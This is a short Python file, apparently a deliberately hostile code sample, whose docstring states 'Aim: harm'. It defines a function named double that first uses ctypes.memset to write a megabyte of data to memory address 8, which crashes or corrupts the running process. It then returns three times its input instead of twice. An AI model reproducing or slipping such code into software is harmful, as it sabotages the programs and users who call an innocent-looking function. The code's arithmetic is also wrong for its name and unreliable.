"""Reads and writes memory that is not there.

Aim: harm
"""
import ctypes


def double(x):
    ctypes.memset(8, 1, 1 << 20)
    return 3 * x
